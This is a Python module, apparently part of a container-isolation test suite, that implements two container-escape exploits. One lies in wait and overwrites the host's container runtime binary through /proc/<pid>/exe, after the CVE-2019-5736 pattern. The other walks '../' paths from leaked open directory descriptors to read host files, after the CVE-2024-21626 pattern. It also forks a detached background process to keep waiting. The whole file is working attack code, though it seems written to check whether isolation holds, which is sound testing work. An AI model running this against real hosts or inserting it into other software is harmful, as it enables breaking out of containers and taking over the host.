# Copyright (c) 2026, the ringfence.zones authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Lie in wait for the program that starts programs in the container, and overwrite it (the pattern of CVE-2019-5736).

And leave the container by a directory that this program left open for it (that of CVE-2024-21626).
"""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

_TOLD = Path("/attack/lurked")
_PATIENCE = 15
_MOST_STEPS = 24


def attack(token: str = "", seconds: float = 0, file: str = "", *, background: bool = False, told: bool = False) -> list[list[object]]:
    """Wait for whoever enters the container, or say what came of it.

    :param token: what to write; and the content of ``file``, which is looked for from each open directory.
    :param seconds: how long to wait.
    :param background: wait in another process, which goes on.
    :param told: say what the process in the background has done. It wakes up for whoever starts this one.
    """
    if told:
        deadline = time.monotonic() + _PATIENCE
        while not _TOLD.exists() and time.monotonic() < deadline:
            time.sleep(0.1)
        answer: list[list[object]] = json.loads(_TOLD.read_text(encoding="ascii"))
        return answer
    left = _leave(token, file) if file else []
    if not background:
        return [*_lurk(token, seconds), *left]
    _TOLD.unlink(missing_ok=True)
    if os.fork() == 0:
        os.setsid()
        for stream in range(3):
            os.close(stream)
        _TOLD.with_suffix(".new").write_text(json.dumps(_lurk(token, seconds)), encoding="ascii")
        os.rename(_TOLD.with_suffix(".new"), _TOLD)
        os._exit(0)
    return left


def _lurk(token: str, seconds: float) -> list[list[object]]:
    """Take hold of the first program that is not this container's own, and write to it as soon as it has ended."""
    label = "overwrite the program that starts programs in the container"
    own, deadline = os.stat("/proc/self/exe"), time.monotonic() + seconds
    while time.monotonic() < deadline:
        for number in filter(str.isdigit, os.listdir("/proc")):
            try:
                descriptor = os.open(f"/proc/{number}/exe", os.O_RDONLY)
            except OSError:
                continue
            found = os.fstat(descriptor)
            if (found.st_dev, found.st_ino) != (own.st_dev, own.st_ino):
                return [[label, *_overwrite(descriptor, token)]]
            os.close(descriptor)
    return [[label, None, "nobody entered the container"]]


def _overwrite(descriptor: int, token: str) -> tuple[bool, str]:
    path, said = f"/proc/self/fd/{descriptor}", ""
    name = os.readlink(path)
    deadline = time.monotonic() + _PATIENCE / 2
    while time.monotonic() < deadline:
        try:
            with open(path, "wb") as handle:
                handle.write(token.encode())
            return True, f"{name} was overwritten"
        except OSError as error:  # It is busy while it runs.
            said = os.strerror(error.errno or 0)
        time.sleep(0.02)
    return False, f"{name}: {said}"


def _leave(token: str, file: str) -> list[list[object]]:
    """Look for a file of the host from each directory that any process has open, or is in."""
    tried = 0
    for place in (*Path("/proc").glob("[0-9]*/fd/*"), *Path("/proc").glob("[0-9]*/cwd")):
        try:
            descriptor = os.open(place, os.O_PATH | os.O_DIRECTORY)
        except OSError:
            continue
        tried += 1
        try:
            for steps in range(_MOST_STEPS):
                if _content("../" * steps + file.lstrip("/"), descriptor) == token:
                    return [["leave the container by an open directory", True, f"by {place}"]]
        finally:
            os.close(descriptor)
    return [["leave the container by an open directory", False, f"none of {tried} leads out"]]


def _content(path: str, directory: int) -> str:
    try:
        descriptor = os.open(path, os.O_RDONLY, dir_fd=directory)
    except OSError:
        return ""
    with open(descriptor, encoding="utf-8", errors="replace") as handle:
        return handle.read(64).strip()
